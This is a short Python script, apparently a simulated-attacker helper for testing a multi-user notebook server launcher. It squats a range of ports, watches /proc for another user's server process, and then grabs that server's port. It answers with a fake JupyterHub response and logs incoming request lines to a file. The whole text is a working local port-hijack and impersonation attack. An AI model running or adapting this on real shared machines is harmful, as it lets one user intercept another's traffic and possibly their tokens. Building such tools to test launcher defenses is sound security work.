"""A malicious user of a node: takes the port that a user's server is about to listen on, and answers in its place.

``neighbour.py FIRST LAST UID WORD FILE``: holds all ports from FIRST to LAST but one, waits until a process of user UID
has WORD on its command line and is no longer the launcher, and takes the last port. It answers every request like a
single-user server, and writes what it receives to FILE. Standard library only, any Python 3.
"""

import socket
import sys
import time
from pathlib import Path

ALL = "0.0.0.0"


def server_is_there(uid: int, word: str) -> bool:
    """Whether the launcher has become the server."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_text(errors="replace").split("\0")
            if process.stat().st_uid == uid and word in " ".join(words) and "--plan" not in words:
                return True
        except OSError:
            continue
    return False


def main(first: int, last: int, uid: int, word: str, path: str) -> None:
    """Run until killed."""
    held = [socket.create_server((ALL, port)) for port in range(first, last)]
    with Path(path).open("a") as file:
        print("ready, with", len(held), file=file, flush=True)
        while not server_is_there(uid, word):
            time.sleep(0.01)
        door = socket.create_server((ALL, last))
        print("taken", file=file, flush=True)
        while True:
            connection, _ = door.accept()
            with connection:
                connection.settimeout(5)
                request = connection.recv(65536)
                print("asked", request.decode(errors="replace").splitlines()[:1], file=file, flush=True)
                connection.sendall(
                    b"HTTP/1.1 200 OK\r\nX-JupyterHub-Version: 5.4.0\r\nContent-Length: 2\r\n"
                    b"Content-Type: application/json\r\nConnection: close\r\n\r\n{}"
                )


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5])
